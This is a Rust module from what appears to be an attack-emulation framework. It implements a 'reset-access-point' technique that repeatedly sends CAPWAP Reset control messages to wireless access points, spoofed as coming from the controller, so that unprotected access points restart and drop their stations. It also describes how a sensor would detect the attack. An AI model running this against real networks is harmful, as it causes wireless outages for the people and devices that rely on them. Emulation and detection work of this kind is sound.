//! Makes access points start again by forged control messages.

use super::{Progress, Technique};
use crate::catalog::Entry;
use crate::net::port::Input;
use crate::parameters::{Addresses, Interval, Parameters};
use crate::time::Duration;
use crate::wire::capwap::{AP_PORT, Capwap, CapwapControl, PORT};
use crate::wire::{Ip, Message};

/// Technique `reset-access-point`.
#[derive(Debug)]
pub(super) struct ResetAccessPoint;

/// What a step gives to it.
#[derive(Clone, Debug, Parameters)]
pub(super) struct Params {
    /// Address of the controller, written as sender.
    controller: Ip,
    /// Addresses of access points.
    access_points: Addresses,
    /// Time between requests.
    #[param(default = "20s")]
    every: Interval,
    /// How long.
    #[param(key = "for", default = "5m")]
    span: Duration,
}

type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, ResetAccessPoint>;

static ENTRY: Entry = Entry {
    id: "reset-access-point",
    title: "Reset access points by forged control messages",
    summary: "Sends the controller's reset request, in its name, to the control port of access points, again and again. An access point that takes \
              control messages outside a protected channel starts again, which takes a minute, and its stations are off meanwhile. One that insists on the \
              protected channel drops the message. The attacker does not see what comes of it and counts as done when its time is over. A sensor on the \
              segment sees control messages that the controller did not send.",
    parameters: Params::PARAMETERS,
    relations: Params::RELATIONS,
    references: &["RFC 5415 section 9.3", "T0814", "T0816"],
};

const TOKEN_SEND: u32 = 1;
const TOKEN_END: u32 = 2;

fn send(step: &mut Step<'_, '_, '_>) -> Progress {
    let controller = step.params.controller;
    for &ip in step.params.access_points.iter() {
        let reset = Message::Capwap(Box::new(Capwap::Clear(CapwapControl::Reset)));
        step.hands
            .datagram_as((controller, PORT), (ip, AP_PORT), reset);
    }
    step.hands.timer(step.params.every.0, TOKEN_SEND);
    Progress::Wait
}

impl Technique for ResetAccessPoint {
    type Params = Params;
    type State = ();
    const ENTRY: &'static Entry = &ENTRY;
    const STAGES: &'static [&'static str] = &["send", "over"];

    fn patience(params: &Params) -> Duration {
        params.span + Duration::from_mins(1)
    }

    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => {
                step.hands.timer(step.params.span, TOKEN_END);
                send(step)
            }
            Input::Timer(TOKEN_SEND) => send(step),
            Input::Timer(TOKEN_END) => Progress::Done("reset requests were sent"),
            _ => Progress::Wait,
        }
    }
}
